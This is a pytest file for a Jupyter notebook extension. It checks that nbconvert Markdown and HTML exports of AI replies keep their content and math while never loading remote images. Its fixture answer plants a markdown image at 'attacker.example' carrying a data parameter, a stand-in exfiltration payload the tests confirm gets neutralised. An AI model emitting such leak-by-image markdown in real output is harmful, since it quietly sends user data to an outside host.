"""Real nbconvert runs on a notebook executed in a real kernel: Markdown per reply, typeset
math in HTML, and no stylesheet or fetching image in either."""

from __future__ import annotations

import os
import re
import subprocess
import sys

import pytest
from fake_server import Reply
from test_kernel import execute

pytestmark = pytest.mark.kernel

ANSWER = ("The energy is **large**: \\[ E = mc^2 \\] with \\(c\\) the speed of light.\n\n"
          "```python\nprint('E')\n```\n\n![leak](https://attacker.example/p.png?d=1)")
THINKING = "Recall Einstein, then check units."


def nbconvert(path, to: str) -> str:
    """Run `jupyter nbconvert` in a subprocess, as a user would; return the file it wrote."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    subprocess.run([sys.executable, "-m", "jupyter", "nbconvert", "--to", to,
                    "--output", f"out-{to.rsplit('.', 1)[-1]}", str(path)],
                   check=True, capture_output=True, env=env, timeout=120)
    suffix = ".html" if to == "html" else ".md"
    return (path.parent / f"out-{to.rsplit('.', 1)[-1]}{suffix}").read_text(encoding="utf-8")


@pytest.fixture
def executed(server, tmp_path):
    server.queue(Reply(thinking=THINKING, answer=ANSWER))
    _, path = execute(["%load_ext qwen_nb", "%%qwen\nExplain E = mc^2"], server, tmp_path)
    return path


@pytest.mark.parametrize("to", ["markdown", "qwen-markdown"])
def test_markdown_export_holds_each_reply_as_markdown(executed, to):
    # Plain `--to markdown` reads the etc/jupyter config the package installs.
    text = nbconvert(executed, to)
    assert "The energy is **large**" in text and "```python\nprint('E')\n```" in text
    assert re.search(r"<details><summary>Thinking[^<]*</summary>\s*<pre>Recall Einstein", text)
    assert text.index("The energy is") < text.index("Recall Einstein")
    assert "<style" not in text and "qwen-nb-tab" not in text
    # The remote image is a link in the Markdown too: nothing to fetch.
    assert "[image: attacker.example/p.png](https://attacker.example/p.png?d=1)" in text
    assert "![" not in text


def test_markdown_export_leaves_other_outputs_as_they_are(server, tmp_path):
    # Only qwen_nb's outputs change: another library's HTML stays HTML in the Markdown.
    server.queue(Reply(thinking=THINKING, answer=ANSWER))
    _, path = execute(["%load_ext qwen_nb", "%%qwen\nExplain E = mc^2",
                       "from IPython.display import display\n"
                       "display({'text/html': '<b>kept html</b>',"
                       " 'text/markdown': 'mark' + 'down kept'}, raw=True)"], server, tmp_path)
    text = nbconvert(path, "markdown")
    assert "<b>kept html</b>" in text and "markdown kept" not in text
    assert "The energy is **large**" in text and "<style" not in text


def test_html_export_has_mathml_and_no_remote_image(executed):
    page = nbconvert(executed, "html")
    start = page.index('data-qwen-nb="static"')
    output = page[start:page.index("</details></div>", start)]
    assert "<math" in output and "<mi>E</mi><mo>=</mo><mi>m</mi><msup>" in output
    assert 'src="https://attacker.example' not in output
    assert 'class="qwen-nb-image-link" href="https://attacker.example/p.png?d=1"' in output
